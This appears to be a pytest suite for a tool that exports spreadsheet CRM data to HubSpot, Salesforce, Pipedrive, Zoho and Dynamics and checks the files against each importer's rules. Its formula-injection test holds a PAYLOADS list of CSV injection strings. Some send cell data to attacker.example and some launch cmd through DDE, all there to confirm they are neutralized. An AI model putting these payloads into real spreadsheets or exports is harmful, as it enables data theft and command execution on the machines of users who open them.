"""Exports to HubSpot, Salesforce, Pipedrive, Zoho and Dynamics follow each importer's rules."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from xlcrm import ExportError, available_targets, export, generate_demo, load
from xlcrm.cli import app
from xlcrm.exchange.mapping import load_mapping
from xlcrm.exchange.safety import TRIGGERS, neutralize, unneutralize
from xlcrm.sheets.workbook import write_new_workbook

from ._helpers import PRESETS, TODAY

if sys.version_info >= (3, 11):
    import tomllib
else:
    import tomli as tomllib

RULES = Path(__file__).parent / "import_rules"
TARGETS = ["dynamics", "hubspot", "pipedrive", "salesforce", "zoho"]


def read_csv(path: Path) -> tuple[bytes, list[str], list[dict[str, str]]]:
    """Return the raw bytes, header and rows of an exported CSV, decoded as UTF-8."""
    raw = path.read_bytes()
    text = raw.decode("utf-8-sig")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    return raw, list(reader.fieldnames or []), rows


def validate_against_rules(folder: Path, target: str, preset: str) -> list[str]:
    """Check a file set against the machine-readable rules of ``target``; return violations."""
    rules = tomllib.loads((RULES / f"{target}.toml").read_text(encoding="utf-8"))
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    problems: list[str] = []
    by_file: dict[str, list[dict[str, str]]] = {}
    headers: dict[str, list[str]] = {}
    order = [f["spec"] for f in manifest["files"]]
    file_rules = rules["file"]
    assert order == rules["presets"][preset], order
    for f in manifest["files"]:
        raw, header, rows = read_csv(folder / f["file"])
        bom = raw.startswith(b"\xef\xbb\xbf")
        if bom != file_rules["bom"]:
            problems.append(f"{f['file']}: BOM {bom}, the target wants {file_rules['bom']}")
        if len(raw) > file_rules["max_bytes"] or len(raw) != f["bytes"]:
            problems.append(f"{f['file']}: {len(raw)} bytes (manifest says {f['bytes']})")
        if len(rows) > file_rules.get("max_rows", 10**9) or len(rows) != f["rows"]:
            problems.append(f"{f['file']}: {len(rows)} rows (manifest says {f['rows']})")
        if len(header) > file_rules.get("max_columns", 10**6):
            problems.append(f"{f['file']}: {len(header)} columns")
        ids = [h for h in header if re.fullmatch(r"xlcrm \w+ ID", h)]
        if len(ids) > file_rules.get("max_id_columns", 10**6):
            problems.append(f"{f['file']}: links {len(ids)} objects {ids}")
        owner = file_rules.get("owner_header")
        if owner and any(h.startswith("Owner.") and h != owner for h in header):
            problems.append(f"{f['file']}: owner column is not {owner}")
        by_file.setdefault(f["spec"], []).extend(rows)
        headers[f["spec"]] = header

    for name, rows in by_file.items():
        spec = rules["files"][name]
        for col in spec.get("required", []):
            if col not in headers[name]:
                problems.append(f"{name}: required column {col} missing")
                continue
            problems += [f"{name} row {i}: {col} empty" for i, r in enumerate(rows, 2)
                         if not r[col].strip()]
        if spec.get("one_of"):
            problems += [f"{name} row {i}: none of {spec['one_of']}" for i, r in enumerate(rows, 2)
                         if not any(r.get(c, "").strip() for c in spec["one_of"])]
        for key, pattern in (("dates", file_rules["date"]), ("numbers", file_rules["number"])):
            for col in spec.get(key, []):
                problems += [f"{name} row {i}: {col} {r[col]!r}" for i, r in enumerate(rows, 2)
                             if r.get(col) and not re.fullmatch(pattern, r[col])]
        for col, allowed in spec.get("picklists", {}).items():
            problems += [f"{name} row {i}: {col} {r[col]!r} not a picklist value"
                         for i, r in enumerate(rows, 2) if r[col] not in allowed]
        for col, n in spec.get("max_length", {}).items():
            problems += [f"{name} row {i}: {col} too long" for i, r in enumerate(rows, 2)
                         if len(r[col]) > n]
        for col in spec.get("unique", []):
            values = [r[col] for r in rows if r[col]]
            if len(values) != len(set(values)):
                problems.append(f"{name}: {col} repeats a value")
        for col in spec.get("absent", []):
            if col in headers[name]:
                problems.append(f"{name}: has column {col}")
        prefix = spec.get("no_column_prefix")
        if prefix and any(h.startswith(prefix) for h in headers[name]):
            problems.append(f"{name}: a column starts with {prefix!r}")
        forbidden = file_rules.get("forbidden", "")
        problems += [f"{name} row {i}: forbidden character" for i, r in enumerate(rows, 2)
                     if any(ch in v for v in r.values() for ch in forbidden)]
    for link in rules.get("links", []):
        src, src_col = link["from"].split(":", 1)
        dst, dst_col = link["to"].split(":", 1)
        if src not in by_file or src_col not in headers[src]:
            continue
        if file_rules.get("parents_first"):
            assert order.index(dst) <= order.index(src), (src, dst)
        keys = {r[dst_col] for r in by_file.get(dst, [])}
        problems += [f"{src} row {i}: {src_col} {r[src_col]!r} not in {dst}"
                     for i, r in enumerate(by_file[src], 2)
                     if r[src_col] and r[src_col] not in keys]
    return problems


@pytest.mark.parametrize("preset", PRESETS)
@pytest.mark.parametrize("target", TARGETS)
def test_demo_export_follows_target_import_rules(demo_books: dict[str, Path], tmp_path: Path,
                                                 target: str, preset: str) -> None:
    result = export(demo_books[preset], target, tmp_path)
    assert result.errors == []
    assert validate_against_rules(tmp_path, target, preset) == []
    crm = load(demo_books[preset])
    # every record of the sheets the target takes is exported, once, in the first file of it
    lead_sheet = crm.schema.lead_sheet
    first = next(fs for fs in load_mapping(target).files_for(preset) if fs.sheet == lead_sheet)
    assert sum(f.rows for f in result.files if f.spec == first.file) == len(
        crm.tables[lead_sheet])
    report = list(csv.DictReader(io.StringIO(result.report.read_text(encoding="utf-8"))))
    assert len(report) == len(result.issues)
    assert all(re.match(r"^[A-Za-z' ]+!\w+\d+$", r["record"]) for r in report)


def test_every_shipped_target_has_rules_and_is_tested() -> None:
    assert available_targets() == TARGETS
    assert sorted(p.stem for p in RULES.glob("*.toml")) == TARGETS


def test_validation_report_names_record_of_missing_required_value(
        tmp_path: Path) -> None:
    data = generate_demo("b2b", leads=40, seed=3, today=TODAY)
    deals = data.data["deals"]
    deals["close_date"][0] = None
    book = write_new_workbook(tmp_path / "crm.xlsx", data.schema, data.data,
                              options=data.options, settings_rows=data.settings_rows)
    result = export(book, "salesforce", tmp_path / "out")
    crm = load(book)
    row = int(crm.tables["deals"].index[crm.tables["deals"]["id"] == deals["id"][0]][0])
    assert [(i.where, i.code) for i in result.errors] == [(f"Deals!J{row}", "rule-required")]
    assert "CloseDate" in result.errors[0].message


def test_unmapped_stage_is_a_clear_error(demo_books: dict[str, Path], tmp_path: Path) -> None:
    shipped = Path(__file__).parents[1] / "templates" / "exports" / "hubspot.toml"
    text = shipped.read_text(encoding="utf-8")
    mine = tmp_path / "my-hubspot.toml"
    mine.write_text(re.sub(r'^(negotiation|lost) = .*$', "", text, flags=re.M), encoding="utf-8")
    with pytest.raises(ExportError, match=r'stages: "Lost", "Negotiation".*my-hubspot.toml'):
        export(demo_books["dealer"], "hubspot", tmp_path / "out", mapping=mine)
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_large_object_is_split_under_the_row_limit(demo_books: dict[str, Path],
                                                  tmp_path: Path) -> None:
    result = export(demo_books["dealer"], "pipedrive", tmp_path, max_rows=100)
    manifest = json.loads((tmp_path / "manifest.json").read_text(encoding="utf-8"))
    parts = [f for f in manifest["files"] if f["spec"] == "activities.csv"]
    assert len(parts) > 1 and all(p["rows"] <= 100 for p in parts)
    assert manifest["limits"]["max_rows_per_file"] == 100
    ids: list[str] = []
    for p in parts:
        _, header, rows = read_csv(tmp_path / p["file"])
        assert header[0] == "xlcrm ID"
        ids += [r["xlcrm ID"] for r in rows]
    assert len(ids) == len(set(ids)) == result.rows["activities"]
    assert manifest["load_order"] == ["deals", "activities"]


# ----- formula injection ------------------------------------------------------------------
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A2),"//a")',
]


def _runnable(value: str) -> bool:
    return value.startswith(TRIGGERS)


def test_formula_payloads_never_reach_an_exported_cell_runnable(tmp_path: Path) -> None:
    data = generate_demo("b2b", leads=40, seed=5, today=TODAY)
    contacts, accounts, deals = data.data["contacts"], data.data["accounts"], data.data["deals"]
    for i, payload in enumerate(PAYLOADS):
        contacts["first_name"][i] = payload
        contacts["last_name"][i + 10] = payload
        contacts["title"][i] = payload
        accounts["name"][i] = payload + f" {i}"
        accounts["city"][i] = payload
        deals["name"][i] = payload
        deals["notes"][i] = payload
    contacts["phone"][20] = "+44 20 7946 0958"
    deals["amount"][10] = -500.0
    book = write_new_workbook(tmp_path / "crm.xlsx", data.schema, data.data,
                              options=data.options, settings_rows=data.settings_rows)
    seen_payloads = 0
    for target in TARGETS:
        out = tmp_path / target
        export(book, target, out)
        cells = []
        for f in sorted(out.glob("*.csv")):
            _, header, rows = read_csv(f)
            cells += [(f.name, h, r[h]) for r in rows for h in header]
        runnable = [c for c in cells if _runnable(c[2])
                    and not re.fullmatch(r"\+\d+|-\d+(\.\d+)?", c[2])]
        assert runnable == []
        seen_payloads += sum(1 for c in cells if c[2].startswith("'") and unneutralize(c[2])
                             in {p for p in PAYLOADS} | {f"{p} {i}" for i, p in
                                                          enumerate(PAYLOADS)})
        values = {c[2] for c in cells}
        assert "+442079460958" in values  # an E.164 phone stays as it is
        assert "-500" in values  # a negative amount stays a number
    assert seen_payloads >= len(TARGETS) * len(PAYLOADS)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-x", "@a", "\tx", "\rx", "\nx"])
def test_neutralize_quotes_every_trigger(value: str) -> None:
    assert neutralize(value) == "'" + value
    assert unneutralize(neutralize(value)) == value


def test_neutralize_keeps_plain_data_only_in_its_column_kind() -> None:
    assert neutralize("+393456211018", kind="phone") == "+393456211018"
    assert neutralize("-1250.5", kind="number") == "-1250.5"
    assert neutralize("+1+HYPERLINK(1)", kind="phone").startswith("'")
    assert neutralize("+39 345 621", kind="phone").startswith("'")  # a space is an operator
    assert neutralize("-500", kind="text") == "'-500"
    assert neutralize("Plain name") == "Plain name"


def test_cli_export_prints_files_and_exit_code(demo_books: dict[str, Path],
                                               tmp_path: Path) -> None:
    run = CliRunner().invoke(app, ["export", str(demo_books["b2b"]), "--to", "salesforce",
                                   "--out", str(tmp_path)])
    assert run.exit_code == 0, run.output
    assert "1. " in run.output and "Account.csv" in run.output
    assert (tmp_path / "manifest.json").exists()
    bad = CliRunner().invoke(app, ["export", str(demo_books["b2b"]), "--to", "nowhere",
                                   "--out", str(tmp_path / "x")])
    assert bad.exit_code == 2 and "unknown export target" in bad.output


def test_account_name_twice_is_reported_where_zoho_links_by_name(tmp_path: Path) -> None:
    data = generate_demo("b2b", leads=40, seed=3, today=TODAY)
    accounts = data.data["accounts"]
    linked = data.data["contacts"]["account"][0]
    twin = accounts["id"].index(linked)
    other = next(i for i, a in enumerate(accounts["id"]) if i != twin)
    accounts["name"][other] = accounts["name"][twin].upper()  # differs only in case
    book = write_new_workbook(tmp_path / "crm.xlsx", data.schema, data.data,
                              options=data.options, settings_rows=data.settings_rows)
    result = export(book, "zoho", tmp_path / "out")
    dupes = [i for i in result.issues if i.code == "rule-unique" and "Account Name" in i.message]
    assert len(dupes) == 1 and dupes[0].severity == "warning"
    assert accounts["name"][twin].upper() in dupes[0].message or accounts["name"][twin] in \
        dupes[0].message
    assert "help.zoho.com" in dupes[0].message
